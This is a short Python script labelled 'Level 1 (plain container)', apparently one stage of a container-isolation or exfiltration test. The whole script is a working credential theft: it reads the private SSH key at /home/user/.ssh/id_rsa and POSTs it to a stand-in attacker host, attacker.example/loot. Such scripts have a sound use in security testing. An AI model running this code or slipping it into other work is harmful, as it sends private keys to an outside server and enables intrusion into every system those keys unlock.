"""Level 1 (plain container): read the mounted key, POST it to the attacker's server."""
import urllib.request

key = open("/home/user/.ssh/id_rsa").read()
req = urllib.request.Request("https://attacker.example/loot", data=key.encode(), method="POST")
print(urllib.request.urlopen(req, timeout=5).status)
